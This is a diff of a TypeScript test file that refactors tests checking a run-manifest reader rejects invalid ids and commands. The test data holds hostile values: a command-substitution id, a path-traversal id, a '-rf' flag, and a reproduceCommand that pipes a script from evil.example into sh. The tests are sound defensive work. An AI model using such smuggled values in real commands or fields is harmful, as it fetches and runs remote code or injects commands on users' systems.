@@ -131,9 +131,6 @@ describe('a manifest', () => {
     ['that is a list', [], 'RECORD_INVALID'],
     ['that is a text', 'run', 'RECORD_INVALID'],
     ['that is nothing', null, 'RECORD_INVALID'],
-    ...[...['$(touch x);x', '../../../evil', '-rf', 'a b', 'a\nb', '', 'a'.repeat(101)]].map(
-      (id) => [`with the id ${id}`, { ...buildTestManifest(), id }, 'RECORD_INVALID'] as const,
-    ),
     [
       'with a command that does more',
       { ...buildTestManifest(), reproduceCommand: 'npx loadstone run; curl evil.example|sh' },
@@ -144,6 +141,17 @@ describe('a manifest', () => {
     expect(() => read(manifest)).toThrow(expect.objectContaining({ code }));
   });
 });
+
+test.each(['$(touch x);x', '../../../evil', '-rf', 'a b', 'a\nb', '', 'a'.repeat(101)])(
+  'a manifest with the id %j is refused',
+  (id) => {
+    mkdirSync(join(runs, 'a'), { recursive: true });
+    writeFileSync(join(runs, 'a', 'run.json'), JSON.stringify({ ...buildTestManifest(), id }));
+    expect(() => readManifest(findRunFolder(runs, 'a'))).toThrow(
+      expect.objectContaining({ code: 'RECORD_INVALID', message: expect.stringMatching(/: id: /) }),
+    );
+  },
+);
 
 test('what is written compressed is read back whole', () => {
   const folder = createRunFolder(join(runs, 'new'), 'a');
